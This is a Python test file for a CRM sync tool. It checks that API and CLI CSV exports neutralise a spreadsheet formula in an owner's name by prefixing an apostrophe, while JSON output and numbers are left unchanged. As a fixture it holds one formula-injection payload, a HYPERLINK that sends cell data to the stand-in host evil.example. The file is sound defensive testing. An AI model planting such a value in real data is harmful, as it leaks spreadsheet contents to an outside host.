"""A CRM value that a spreadsheet would run as a formula reaches every CSV as text.

A rep named ``=HYPERLINK(...)`` in the CRM is stored and served as it is (JSON is data), but in
the API's and the CLI's CSV its cell starts with an apostrophe, so Excel, LibreOffice and Google
Sheets show it instead of running it; numbers, negative ones included, stay numbers.
"""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import update

from crm_perf_sync.kit.db import session_scope
from crm_perf_sync.models import Owner
from tests.api.conftest import Served
from tests.cli_inprocess import invoke
from tests.conftest import DATA_DIR

EVIL = '=HYPERLINK("http://evil.example/?x="&A1;"Moses")'
OWNER = "maven:Moses Frase"


@pytest.fixture(scope="module")
def evil(served: Served) -> Served:
    """The served store with one rep renamed in the CRM to a formula."""
    with session_scope(served.session_factory) as session:
        session.execute(update(Owner).where(Owner.external_id == "Moses Frase").values(name=EVIL))
    return served


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_the_json_keeps_the_name_as_the_crm_has_it(evil: Served) -> None:
    owners = evil.get("/api/v1/owners?limit=1000").json()["data"]
    assert next(o for o in owners if o["id"] == OWNER)["name"] == EVIL


@pytest.mark.parametrize("paging", ["&limit=1000", ""], ids=["page", "streamed"])
def test_the_apis_csv_neutralises_the_formula(evil: Served, paging: str) -> None:
    owners = rows(evil.get(f"/api/v1/owners?format=csv{paging}").text)
    assert next(o for o in owners if o["id"] == OWNER)["name"] == "'" + EVIL
    assert all(not o["name"].startswith(("=", "+", "-", "@")) for o in owners)
    values = rows(evil.get(f"/api/v1/kpis/won_revenue/values?grain=all&scope=owner&format=csv{paging}").text)
    assert next(v for v in values if v["scope_id"] == OWNER)["scope_name"] == "'" + EVIL


def test_negative_numbers_stay_numbers(evil: Served) -> None:
    url = "/api/v1/kpis/won_revenue/values?grain=month&scope=company&limit=1000"
    negative = {v["period_key"]: v["gap"] for v in evil.get(url).json()["data"] if (v["gap"] or 0) < 0}
    assert negative  # months that beat the 1,000,000 target: the gap is below zero
    written = {v["period_key"]: v["gap"] for v in rows(evil.get(url + "&format=csv").text)}
    for period, gap in negative.items():
        assert written[period] == repr(gap)  # -123.0, not '-123.0


def test_the_clis_csv_neutralises_the_formula(evil: Served) -> None:
    env = {
        "CRM_DATA_DIR": str(DATA_DIR),
        "CRM_PERF_SYNC_DATABASE_URL": evil.engine.url.render_as_string(hide_password=False),
        "CRM_PERF_SYNC_CONFIG": str(evil.config.path),
    }
    shown = invoke("values", "won_revenue", "--grain", "all", "--scope", "owner", "--format", "csv", env=env)
    assert shown.exit_code == 0, shown.stderr
    written = rows(shown.stdout)
    assert next(v for v in written if v["scope_id"] == OWNER)["scope_name"] == "'" + EVIL
    assert all(float(v["value"]) > 0 for v in written)  # numbers are written as numbers
